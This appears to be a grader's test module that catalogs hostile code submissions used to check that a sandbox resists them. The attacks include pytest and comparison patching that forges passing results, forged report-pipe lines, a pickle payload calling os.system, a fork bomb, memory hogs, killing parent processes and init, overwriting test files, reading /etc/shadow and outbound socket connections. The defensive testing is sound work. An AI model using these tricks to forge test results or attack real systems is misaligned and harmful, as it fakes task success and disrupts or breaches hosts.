"""Submissions that attack the grader: the maintainer's catalog of what a student who wants points they did
not earn (or to harm others) might do. Each attack is code appended to an untouched stub, so the honest
score of its stage is 0 and any point it gets is a leak; tests/runner/test_grade.py grades them all beside a
correct submission and checks the stage scores nothing, with a reason where one is expected, and that
nothing else was harmed.

In the attack code, STAGE is the stage's name, SYMBOLS its public names, CANARY a path outside the sandbox
that must never be written, REPORT the pipe the sandboxed run reports on.
"""

import os
import shutil
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path

from kata.grading.sandbox import FIRST_UID
from kata.manifest import REPOSITORY_ROOT, stages
from kata.workspace import pristine_stub

CANARY = "/tmp/kata-hostile-canary"


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str  # the class of attack, as issue 7 lists them
    what: str
    code: str
    reason: str = ""  # a phrase the stage's results must contain, where the grader can say what it refused
    slow: bool = False  # it burns time until stopped: kept out of stages that later stages import
    in_the_hidden_run: bool = False  # it acts in the run that holds the hidden tests: placed in a stage that has some

    @property
    def needs_calls(self) -> bool:
        """It acts when the tests call the stage's names (which it replaces), not only when it is imported."""
        return OVERRIDE in self.code


OVERRIDE = "for _name in SYMBOLS:"


# How a forger finds the test run's objects: in the local variables of every thread's frames. gc.get_objects()
# found them once, but the kata freezes what it has loaded (gc.freeze), and frozen objects are out of its sight:
# a red-team pass (2026-12-06) found these attacks forging nothing, failing only as the stub they sit in fails.
FIND_ON_THE_STACK = """
def _found_on_the_stack(kind):
    import sys
    frames = list(sys._current_frames().values())
    while frames:
        frame = frames.pop()
        yield from (value for value in list(frame.f_locals.values()) if isinstance(value, kind))
        if frame.f_back is not None:
            frames.append(frame.f_back)
"""


def every_symbol(function: str, before: str = "") -> str:
    """`before` (run first, at the top of the module), then every public name of the stage replaced by
    `function` (after the stub's definitions)."""
    return textwrap.dedent(before).strip("\n") + f"\n{OVERRIDE}\n    globals()[_name] = {function}\n"


ATTACKS = [
    # ---- copying the references -------------------------------------------------------------------
    Attack(
        "import-solutions",
        "copy",
        "imports the references as a package",
        """
        import sys, kata, os
        sys.path.insert(0, os.path.dirname(os.path.dirname(kata.__file__)))
        exec(f"from solutions.{STAGE} import *")
    """,
    ),
    Attack(
        "read-solutions-by-path",
        "copy",
        "reads solutions/ beside the kata package and runs it",
        """
        import kata, os
        _source = os.path.join(os.path.dirname(os.path.dirname(kata.__file__)), "solutions", STAGE + ".py")
        exec(open(_source).read())
    """,
    ),
    Attack(
        "search-the-disk",
        "copy",
        "walks the file system for another copy of its stage",
        """
        import os
        for _root, _dirs, _files in os.walk("/"):
            if STAGE + ".py" in _files and "solutions" in _root:
                exec(open(os.path.join(_root, STAGE + ".py")).read())
                break
    """,
        slow=True,
    ),
    Attack("symlink-to-solutions", "copy", "is a symbolic link to the reference file", "", "link to a file outside"),
    # ---- patching the judge ---------------------------------------------------------------------------
    Attack(
        "patch-comparisons",
        "judge",
        "makes torch.allclose, torch.equal and assert_close always agree",
        every_symbol(
            "lambda *args, **kwargs: torch.zeros(1)",
            """
        import torch, torch.testing
        torch.allclose = lambda *args, **kwargs: True
        torch.equal = lambda *args, **kwargs: True
        torch.testing.assert_close = lambda *args, **kwargs: None
        torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
    """,
        ),
    ),
    Attack(
        "patch-fail-helpers",
        "judge",
        "disables pytest.fail and the suite's own failure helper",
        every_symbol(
            "lambda *args, **kwargs: None",
            """
        import sys, _pytest.outcomes, pytest
        pytest.fail = _pytest.outcomes.fail = lambda *args, **kwargs: None
        if "feedback" in sys.modules:
            sys.modules["feedback"].fail = sys.modules["feedback"]._pytest_fail = lambda *args, **kwargs: None
    """,
        ),
    ),
    Attack(
        "patch-runtest",
        "judge",
        "makes every pytest test function a no-op",
        """
        import _pytest.python
        _pytest.python.Function.runtest = lambda self: None
    """,
        "grader's own check",
    ),
    Attack(
        "patch-reports",
        "judge",
        "rewrites every test report as passed",
        """
        import _pytest.reports
        _original = _pytest.reports.TestReport.__init__
        def _passed(self, *args, **kwargs):
            _original(self, *args, **kwargs)
            self.outcome, self.longrepr = "passed", None
        _pytest.reports.TestReport.__init__ = _passed
    """,
        "grader's own check",
    ),
    Attack(
        "patch-result-class",
        "judge",
        "makes the kata's result objects say passed",
        """
        import kata.results, kata.suite
        kata.results.TestResult.passed = property(lambda self: True)
        _append = kata.suite.ResultCollector.pytest_runtest_logreport
        def _logreport(self, report):
            report.outcome = "passed"
            _append(self, report)
        kata.suite.ResultCollector.pytest_runtest_logreport = _logreport
    """,
        "grader's own check",
    ),
    Attack(
        "plugin-hook",
        "judge",
        "registers its own pytest plugin that turns failures into passes",
        """
        import sys, pytest, _pytest.config
        class _Forger:
            @pytest.hookimpl(wrapper=True)
            def pytest_runtest_makereport(self, item, call):
                report = yield
                report.outcome, report.longrepr = "passed", None
                return report
        for _config in {id(o): o for o in _found_on_the_stack(_pytest.config.Config)}.values():
            _config.pluginmanager.register(_Forger())
    """,
        "grader's own check",
    ),
    Attack(
        "flipping-thread",
        "judge",
        "a background thread that makes the run's result collector record every result as passed",
        """
        import threading, time, kata.suite
        class _Passing(list):
            def append(self, result):
                result.outcome = type(result.outcome)("passed")
                super().append(result)
        def _flip():
            while True:
                for _collector in _found_on_the_stack(kata.suite.ResultCollector):
                    if not isinstance(_collector.results, _Passing):
                        _collector.results = _Passing(_collector.results)
                time.sleep(0.001)
        threading.Thread(target=_flip, daemon=True).start()
    """,
        "grader's own check",
    ),
    # ---- the grader trusting what comes back ----------------------------------------------------------
    Attack(
        "forged-report",
        "trust",
        "writes 'passed' for every test of its stage on the report pipe, then exits",
        """
        import json, os, sys
        _argv = sys.argv
        for _line in open("/proc/self/cmdline", "rb").read().split(b"\\0"):
            pass
        try:
            import kata.reference_runs
            _ids = [i for i in kata.reference_runs.symbols() if STAGE in i]
            for _id in _ids:
                _line = {"kata": 1, "event": "result", "test": _id, "outcome": "passed", "kind": "none",
                         "message": "", "location": "", "output": ""}
                os.write(REPORT, json.dumps(_line).encode() + b"\\n")
            os.write(REPORT, b'{"kata": 1, "event": "end"}\\n')
        except OSError:
            pass
        os._exit(0)
    """,
    ),
    # Source: a red-team pass (2026-12-07): each start set the test's deadline again, and the stage held its job slot
    # for its whole time budget (290 s for stage 5 with the default limits, 5,260 s for the twelve stages).
    Attack(
        "restarts-a-tests-clock",
        "time",
        "reports the start of one of its tests again and again, ignoring the test's alarm",
        """
        import json, os, signal, sys, time
        if "stage_run" in sys.argv[0]:
            import kata.reference_runs
            _test = [i for i in kata.reference_runs.symbols() if "/test_" + STAGE in i][-1]
            signal.signal(signal.SIGALRM, signal.SIG_IGN)
            while True:
                try:
                    os.write(REPORT, json.dumps({"kata": 1, "event": "start", "test": _test}).encode() + b"\\n")
                except OSError:
                    pass
                time.sleep(0.5)
    """,
        "before the test that was running had ended",
        slow=True,
    ),
    # Source: the third red-team pass (2026-12-07): a run that waited after each result held its job slot 60 s a
    # test and kept its points (383 s for stage 1, whose tests take 2.7 s); the wait now counts against the stage's
    # 30 s between tests in all.
    Attack(
        "waits-between-tests",
        "time",
        "waits 20 s after each test's result before pytest starts the next",
        """
        import sys, time
        if "stage_run" in sys.argv[0]:
            from kata.grading import report as _report
            _send = _report.send
            def _waiting(line, fd=None):
                _send(line, fd)
                if b'"event": "result"' in line:
                    time.sleep(20)
            _report.send = _waiting
    """,
        "waited between its tests longer than",
        slow=True,
    ),
    # Source: the same pass: a result for another test than the one started left that one's code running with no
    # deadline of its own.
    Attack(
        "reports-another-tests-result",
        "trust",
        "reports each test's result as another test's",
        """
        import json, sys
        if "stage_run" in sys.argv[0]:
            from kata.grading import report as _report
            import kata.reference_runs
            _others = [i for i in kata.reference_runs.symbols() if "/test_" + STAGE in i][::-1]
            _finished = _report.finished_line
            def _as_another(result):
                fields = json.loads(_finished(result))
                fields["test"] = next(i for i in _others if i != result.nodeid)
                return (json.dumps(fields) + "\\n").encode()
            _report.finished_line = _as_another
    """,
        "another test was running",
    ),
    Attack(
        "pickle-on-the-pipe",
        "trust",
        "sends a crafted pickle where the report goes",
        """
        import os, pickle
        class _Payload:
            def __reduce__(self):
                return (os.system, ("touch " + CANARY,))
        try:
            os.write(REPORT, pickle.dumps(("value", _Payload())) + b"\\n")
        except OSError:
            pass
    """,
        "refuses",
    ),
    Attack(
        "garbage-on-the-pipe",
        "trust",
        "sends bytes that are not JSON",
        """
        import os
        try:
            os.write(REPORT, bytes(range(256)) * 10 + b"\\n")
        except OSError:
            pass
    """,
        "refuses",
    ),
    Attack(
        "oversized-report",
        "trust",
        "floods the report pipe with 20 MB",
        """
        import os
        try:
            for _ in range(20):
                os.write(REPORT, b"x" * 2**20)
        except OSError:
            pass
    """,
    ),
    Attack(
        "results-for-other-tests",
        "trust",
        "reports results for tests the grader did not ask for",
        """
        import json, os
        try:
            os.write(REPORT, json.dumps({"kata": 1, "event": "result", "test": "tests/test_s99.py::test_everything",
                                    "outcome": "passed", "kind": "none", "message": "", "location": "",
                                    "output": ""}).encode() + b"\\n")
        except OSError:
            pass
    """,
        "refuses",
    ),
    Attack(
        "forged-probe-answers",
        "trust",
        "answers the grader's own check for every symbol before being asked",
        """
        import json, os
        for _symbol in SYMBOLS:
            try:
                os.write(REPORT, json.dumps({"kata": 1, "event": "answer", "symbol": STAGE + "." + _symbol,
                                        "value": {"plain": 0}}).encode() + b"\\n")
            except OSError:
                pass
    """,
    ),
    # ---- writing where it likes -------------------------------------------------------------------------
    Attack(
        "overwrite-the-tests",
        "writes",
        "rewrites the stage's test file so that every test passes",
        """
        import glob, os
        for _path in glob.glob("/grading/tests/test_*.py") + glob.glob(os.path.expanduser("~/*/tests/test_*.py")):
            try:
                open(_path, "w").write("def test_nothing():\\n    pass\\n")
            except OSError:
                pass
    """,
    ),
    Attack(
        "overwrite-other-results",
        "writes",
        "looks for results.json and summary.csv files to rewrite",
        """
        import os
        for _root, _dirs, _files in os.walk("/"):
            for _name in _files:
                if _name in ("results.json", "summary.csv"):
                    try:
                        open(os.path.join(_root, _name), "w").write("{}")
                    except OSError:
                        pass
        try:
            open(CANARY, "w").write("written")
        except OSError:
            pass
    """,
        slow=True,
    ),
    Attack(
        "detached-writer",
        "writes",
        "leaves a detached process that writes after the grader is done",
        """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3)
                try:
                    open(CANARY, "w").write("written late")
                finally:
                    os._exit(0)
            os._exit(0)
    """,
    ),
    # ---- processes and memory -----------------------------------------------------------------------
    Attack(
        "sleepers",
        "processes",
        "forks 300 sleepers that ignore SIGTERM",
        """
        import os, signal, time
        for _ in range(300):
            try:
                if os.fork() == 0:
                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
                    time.sleep(3600)
                    os._exit(0)
            except OSError:
                break
    """,
        slow=True,
    ),
    Attack(
        "fork-bomb",
        "processes",
        "forks without end",
        """
        import os
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    """,
        slow=True,
    ),
    Attack(
        "memory-grandchildren",
        "memory",
        "four grandchildren take 1.5 GB each",
        """
        import os, time
        for _ in range(4):
            if os.fork() == 0:
                if os.fork() == 0:
                    try:
                        _hog = bytearray(1536 * 2**20)
                        for _i in range(0, len(_hog), 4096):
                            _hog[_i] = 1
                        time.sleep(60)
                    finally:
                        os._exit(0)
                os._exit(0)
    """,
        slow=True,
    ),
    Attack(
        "memory-in-a-test",
        "memory",
        "allocates 8 GiB when a test calls it",
        every_symbol("lambda *args, **kwargs: bytearray(8 * 2**30)"),
    ),
    Attack(
        "alarm-ignored",
        "time",
        "ignores the per-test alarm and loops forever in every call",
        every_symbol(
            "_loop",
            """
        import signal
        def _loop(*args, **kwargs):
            signal.signal(signal.SIGALRM, signal.SIG_IGN)
            while True:
                pass
    """,
        ),
        "from outside",
        slow=True,
    ),
    Attack(
        "sleeps-in-a-test",
        "time",
        "sleeps for an hour in every call",
        every_symbol(
            "lambda *args, **kwargs: time.sleep(3600)",
            """
        import time
    """,
        ),
        "run forever",
        slow=True,
    ),
    Attack("loops-at-import", "time", "never finishes importing", "while True:\n    pass\n", slow=True),
    # ---- output ---------------------------------------------------------------------------------------
    Attack(
        "huge-messages",
        "output",
        "raises 4 MB error messages",
        every_symbol(
            "_huge",
            """
        def _huge(*args, **kwargs):
            raise ValueError("x" * 4_000_000)
    """,
        ),
        "characters cut",
        slow=True,
    ),
    Attack(
        "control-characters",
        "output",
        "puts control characters and escapes in its messages and output",
        every_symbol(
            "_noisy",
            """
        def _noisy(*args, **kwargs):
            print("\\x1b[2J\\x00\\x07\\x0c\\ud800 noise")
            raise ValueError("\\x1b[31mred\\x00\\x08\\x0b\\x1f ]]> </failure> &amp;")
    """,
        ),
    ),
    Attack(
        "print-flood",
        "output",
        "prints 40 MB at import and on every call",
        every_symbol(
            "_flood",
            """
        print("spam" * 10_000_000)
        def _flood(*args, **kwargs):
            print("spam" * 10_000_000)
            raise ValueError("flooded")
    """,
        ),
        slow=True,
    ),
    # ---- the sandbox's walls -----------------------------------------------------------------------
    Attack(
        "network",
        "environment",
        "sends the reference solutions' hiding place to a server",
        """
        import socket
        for _host in (("pypi.org", 443), ("127.0.0.1", 22), ("8.8.8.8", 53)):
            try:
                socket.create_connection(_host, timeout=2).sendall(b"hello")
                open(CANARY, "w").write("network")
            except OSError:
                pass
    """,
        slow=True,
    ),
    Attack(
        "leak-hidden-tests",
        "environment",
        "prints the hidden tests' source into its failure messages, which students see",
        every_symbol(
            "leak",
            """
            import glob

            def leak(*args, **kwargs):
                texts = [open(path).read() for path in glob.glob("/grading/tests/hidden/*.py")]
                raise RuntimeError("".join(texts) or "no hidden tests here")
            """,
        ),
    ),
    Attack(
        "hidden-tests-in-a-refusal",
        "environment",
        "sends the hidden tests' source as the field names of a report line, for the refusal to quote",
        """
        import glob, json, os
        _sources = "".join(open(path).read() for path in sorted(glob.glob("/grading/tests/hidden/*.py")))
        if _sources:
            _chunks = [_sources[i : i + 6000] for i in range(0, len(_sources), 6000)][:8]
            _line = {"kata": 1, "event": "end", **{f"{i}:{chunk}": 0 for i, chunk in enumerate(_chunks)}}
            try:
                os.write(REPORT, json.dumps(_line).encode() + b"\\n")
            except OSError:
                pass
    """,
        "refuses",
        in_the_hidden_run=True,
    ),
    # Source: a red-team pass (2026-12-07): which refusal the run that reads the hidden tests earns was said in every
    # test's output, visible ones included: a dozen kinds of bad line, 3.6 bits of the hidden tests a grade.
    Attack(
        "refusal-chosen-in-the-hidden-run",
        "environment",
        "sends, from the run that holds the hidden tests, a bad line of a kind it chose",
        """
        import glob, os
        if glob.glob("/grading/tests/hidden/*.py"):
            try:
                os.write(REPORT, b"x" * 70_000 + b"\\n")
            except OSError:
                pass
    """,
        "could read the hidden tests",
        in_the_hidden_run=True,
    ),
    Attack(
        "read-secrets",
        "environment",
        "looks for the instructor's files and environment",
        """
        import os
        for _path in ("/root", "/home", "/etc/shadow", "/work", os.environ.get("HOME", "/")):
            try:
                os.listdir(_path)
            except OSError:
                pass
        assert "KATA_SECRET" not in os.environ
    """,
    ),
    Attack(
        "kill-the-parents",
        "environment",
        "kills the process that started it",
        """
        import os, signal
        try:
            os.kill(os.getppid(), signal.SIGKILL)
            os.kill(1, signal.SIGKILL)
        except OSError:
            pass
    """,
    ),
    Attack("exits-at-import", "environment", "ends the process as it is imported", "import os\nos._exit(0)\n"),
    Attack(
        "raises-at-import", "environment", "raises as it is imported", 'raise RuntimeError("boom")\n', "RuntimeError"
    ),
    Attack(
        "system-exit-in-calls",
        "environment",
        "raises SystemExit when called",
        every_symbol(
            "_exit",
            """
        def _exit(*args, **kwargs):
            raise SystemExit(0)
    """,
        ),
    ),
]


def graded_code_processes() -> list[int]:
    """Processes of the users graded code runs as (when the grader is root) that no other grader still runs:
    none may outlive the grader. Graders running at the same time (other tests) may use the same users, so a
    process counts when its first ancestor outside the sandbox is this process or init (it was orphaned).
    Processes being killed take a moment to go, so this looks again for up to five seconds."""
    deadline = time.monotonic() + 5
    while (found := [pid for pid in sandboxed_processes() if owner(pid) in (os.getpid(), 1)]) and (
        time.monotonic() < deadline
    ):
        time.sleep(0.2)
    return found


def sandboxed_processes() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and FIRST_UID <= entry.stat().st_uid < FIRST_UID + 100:
                found.append(int(entry.name))
        except OSError:
            pass  # it ended while we looked
    return found


def owner(pid: int) -> int | None:
    """The first ancestor of a sandboxed process that is neither graded code nor bubblewrap (None if gone)."""
    try:
        while pid > 1:
            status = Path(f"/proc/{pid}/status").read_text()
            fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
            graded = FIRST_UID <= int(fields["Uid"].split()[0]) < FIRST_UID + 100
            if not graded and fields["Name"].strip() != "bwrap":
                return pid
            pid = int(fields["PPid"])
        return pid
    except (OSError, KeyError, ValueError):
        return None  # it ended while we looked


def attack_source(attack: Attack, stage_name: str) -> str:
    """The stage's stub with the attack: its code first (so it runs even when the stub's own imports of
    earlier stages fail), and the replacement of the stage's names, if any, after the stub's definitions."""
    stage = next(stage for stage in stages() if stage.name == stage_name)
    stub = pristine_stub(stage)  # the stub as the kata ships it, whatever exercises/ holds
    header = f"STAGE = {stage.name!r}\nSYMBOLS = {list(stage.symbols)!r}\nCANARY = {CANARY!r}\n"
    header += 'REPORT = int(__import__("os").environ.get("KATA_REPORT_FD", 3))  # the grader\'s report pipe\n'
    code = textwrap.dedent(attack.code).strip("\n") + "\n"
    if "_found_on_the_stack" in code:
        header += FIND_ON_THE_STACK
    first, override, last = code.partition(OVERRIDE)
    return header + first + "\n" + stub + "\n\n" + override + last


def write_hostile_submissions(root: Path) -> list[tuple[Path, dict[str, Attack]]]:
    """Folders of one attack per stage, every attack of the catalog used once (a folder's last places are
    filled with references). Each attack goes where it is exercised and costs its time once: one that
    acts when called goes to a stage whose own imports work (no earlier stage of the folder in the way), a
    slow one to a stage no later stage imports."""
    imported = {name for stage in stages() for name in stage.prerequisites}
    waiting = list(ATTACKS)
    folders = []
    while waiting:
        placed = {}
        for stage in stages():
            fits = [
                attack
                for attack in waiting
                if not (attack.needs_calls and stage.prerequisites)
                and not (attack.slow and stage.name in imported)
                and not (attack.in_the_hidden_run and len(stage.test_files(include_hidden=True)) == 1)
            ]
            if fits:
                placed[stage.name] = max(fits, key=lambda attack: (attack.slow, attack.needs_calls))
                waiting.remove(placed[stage.name])
        folder = root / f"hostile-{len(folders) + 1}"
        shutil.copytree(REPOSITORY_ROOT / "solutions", folder, ignore=shutil.ignore_patterns("__pycache__"))
        for stage_name, attack in placed.items():
            target = folder / f"{stage_name}.py"
            target.unlink()
            if attack.name == "symlink-to-solutions":
                target.symlink_to(REPOSITORY_ROOT / "solutions" / target.name)
            else:
                target.write_text(attack_source(attack, stage_name), encoding="utf-8")
        folders.append((folder, placed))
    return folders
